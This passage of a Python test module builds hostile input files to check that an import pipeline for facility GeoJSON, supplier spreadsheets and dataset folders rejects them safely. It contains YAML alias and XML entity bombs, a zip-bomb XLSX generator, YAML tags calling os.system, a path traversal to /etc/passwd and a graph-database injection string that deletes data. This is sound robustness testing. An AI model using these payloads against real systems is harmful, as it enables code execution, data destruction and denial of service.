        Case("oshub-geojson-deep", o, "deep.geojson", lambda: b'{"type": "FeatureCollection", "features": '
             + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        Case("oshub-geojson-wrong-shape", o, "shape.geojson", lambda: b'{"type": "FeatureCollection", "features": {"a": 1}}'),
        Case("oshub-geojson-null-geometry", o, "null.geojson", lambda: _geojson(
            [{"id": "BD2019001HOST001", "type": "Feature", "geometry": None, "properties": None}]), "any"),
        Case("oshub-geojson-truncated", o, "trunc.geojson", lambda: _geojson([_feature("BD2019001HOST001", "X")])[:60]),
        Case("oshub-cassette-alias-bomb", o, "bomb.cassette.yaml", lambda: _yaml_alias_bomb()),
        Case("oshub-cassette-python-tag", o, "tag.cassette.yaml", lambda: (
            "interactions: !!python/object/apply:os.system ['echo pwned']\n# /api/facilities\n").encode()),
        Case("oshub-cassette-bad-body", o, "body.cassette.yaml", lambda: _cassette("{not json")),
        Case("oshub-cassette-hostile-names", o, "names.cassette.yaml", lambda: _cassette(json.dumps(
            {"type": "FeatureCollection", "features": [_feature(f"BD2019{i:03d}HOST{i:03d}", n)
                                                       for i, n in enumerate(os_names[:40])]})), "ok",
             names=os_names[:40]),
        Case("oshub-cassette-truncated", o, "trunc.cassette.yaml", lambda: _cassette("{}")[:70]),
        Case("oshub-cassette-deep-yaml", o, "deep.cassette.yaml", lambda: (
            "interactions: " + "[" * 50_000 + "]" * 50_000 + "\n# /api/facilities\n").encode()),
    ]
    # -- supplier lists ------------------------------------------------------------------------
    s = "supplier-list"
    sup_names = names[:120]
    opts = {"brand": "Hostile Brand"}
    out += [
        Case("supplier-csv-hostile-names", s, "suppliers.csv", lambda: _supplier_csv(
            [[n, "", "Road 1", "Cambodia", "100"] for n in sup_names]), "ok", opts, names=sup_names),
        Case("supplier-xlsx-hostile-names", s, "suppliers.xlsx", lambda: _xlsx({"List": [
            ["Hostile Brand supplier list"], SUPPLIER_HEAD, *[[n, "", "Road 1", "Cambodia", 100] for n in sup_names]]}),
             "ok", opts, names=sup_names),
        Case("supplier-brand-hostile", s, "suppliers.csv", lambda: _supplier_csv([["Factory One", "", "R", "KH", "1"]]),
             "ok", {"brand": "=HYPERLINK(\"http://evil\") '}) DETACH DELETE n //"},
             names=["=HYPERLINK(\"http://evil\") '}) DETACH DELETE n //"]),
        Case("supplier-xls-garbage", s, "list.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 20, "error", opts),
        Case("supplier-xls-is-csv", s, "list.xls", lambda: _supplier_csv([["F", "", "R", "KH", "1"]]), "error", opts),
        Case("supplier-xls-empty", s, "list.xls", lambda: b"", "error", opts),
        Case("supplier-xlsx-bomb", s, "bomb.xlsx", lambda: _xlsx_entity("xl/worksheets/sheet1.xml", _BILLION_LAUGHS, "&lol9;",
                                                                        sheets={"List": [SUPPLIER_HEAD, ["x", "", "", "KH", 1]]}),
             "error", opts),
        Case("supplier-xlsx-zip-bomb", s, "zbomb.xlsx", lambda: _zip_bomb_xlsx(dimension=False), "error", opts),
        Case("supplier-csv-no-header", s, "suppliers.csv", lambda: b"a,b,c\n1,2,3\n", "error", opts),
        Case("supplier-csv-formula-workers", s, "suppliers.csv", lambda: _supplier_csv(
            [["Formula Factory", "", "R", "KH", "=1+1"]]), "any", opts),
        Case("supplier-csv-huge", s, "suppliers.csv", lambda: _supplier_csv([["H" * 11_000_000, "", "R", "KH", "1"]]),
             "error", opts),
        Case("supplier-csv-utf16", s, "suppliers.csv", lambda: _supplier_csv([["F", "", "R", "KH", "1"]]).decode()
             .encode("utf-16"), "error", opts),
        Case("supplier-csv-duplicate-factories", s, "suppliers.csv", lambda: _supplier_csv(
            [["Same Factory", "", "R", "KH", "1"], ["Same Factory", "", "R", "KH", "2"]]), "any", opts),
    ]
    # -- dataset folders -----------------------------------------------------------------------
    out += [
        Case("dataset-yaml-alias-bomb", t, "actors.csv", _valid_tabular, "error",
             extra={"dataset.yaml": _yaml_alias_bomb(dataset=True)}),
        Case("dataset-yaml-python-tag", t, "actors.csv", _valid_tabular, "error",
             extra={"dataset.yaml": b"id: !!python/object/apply:os.system ['echo pwned']\nfiles: [actors.csv]\n"}),
        Case("dataset-yaml-path-traversal", t, "actors.csv", _valid_tabular, "error",
             extra={"dataset.yaml": b"id: trav\ntitle: T\nfiles: [../../../../etc/passwd]\n"}),
        Case("dataset-yaml-hostile-id", t, "actors.csv", _valid_tabular, "error",
             extra={"dataset.yaml": b"id: \"'}) DETACH DELETE n //\"\ntitle: T\nfiles: [actors.csv]\n"}),
    ]
    return out


def _xml_attr(text: str) -> str:
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;"))


def _plain_zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def _xlsx_entity(member: str, doctype: str, ref: str, sheets: dict | None = None) -> bytes:
    """A workbook whose ``member`` declares entities and uses one (an XML bomb or XXE inside XLSX)."""
    base = _xlsx(sheets or {"actors": [ACTOR_HEAD, ["hx-x", "Entity Union", "union", "MY", ""]]})
    original = zipfile.ZipFile(io.BytesIO(base)).read(member).decode() if member in zipfile.ZipFile(
        io.BytesIO(base)).namelist() else (
        '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>x</t></si></sst>')
    if original.startswith("<?xml"):
        head, sep, rest = original.partition("?>")
    else:
        head, sep, rest = "", "", original
    if "<t>" in rest:
        rest = rest.replace("<t>", "<t>" + ref, 1)
    elif "<v>" in rest:
        rest = rest.replace("<v>", "<v>" + ref, 1)
    else:
        rest = rest.replace(">", ">" + ref, 1) if ref.startswith("&") else rest
    return _zip_replace(base, member, (head + sep + doctype + rest).encode())


def _zip_bomb_xlsx(dimension: bool = True) -> bytes:
    """A workbook whose sheet inflates to about 300 MB of empty rows (well under 1 MB compressed)."""
    base = _xlsx({"actors": [ACTOR_HEAD, ["hx-z", "Zip Union", "union", "MY", ""]]})
    src = zipfile.ZipFile(io.BytesIO(base))
    member = "xl/worksheets/sheet1.xml"
    head, _, tail = src.read(member).decode().partition("</sheetData>")
    if not dimension:  # without it, a reader cannot know where the rows end
        head = head.replace('<dimension ref="A1:E2"/>', "")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            if info.filename != member:
                dst.writestr(info.filename, src.read(info.filename))
        with dst.open(member, "w", force_zip64=True) as handle:
            handle.write(head.encode())
            chunk = b"<row/>" * 1_000_000
            for _ in range(50):
                handle.write(chunk)
            handle.write(("</sheetData>" + tail).encode())
    return out.getvalue()


def _corrupt_member(data: bytes) -> bytes:
    raw = bytearray(data)
    at = raw.find(b"xl/worksheets/sheet1.xml")
    if at > 0:
        for i in range(at + 60, min(at + 120, len(raw))):
            raw[i] ^= 0x5A
    return bytes(raw)


def _yaml_alias_bomb(dataset: bool = False) -> bytes:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i, name in enumerate("bcdefghij"):
        prev = "abcdefghij"[i]
        lines.append(f"{name}: &{name} [" + ",".join(f"*{prev}" for _ in range(9)) + "]")
    if dataset:
        lines += ["id: bomb", "title: *j", "files: *j"]
    else:
        lines += ["interactions: *j", "# /api/facilities"]
    return ("\n".join(lines) + "\n").encode()


__all__ = ["CONTROL_NAMES", "Case", "cases", "hostile_names"]
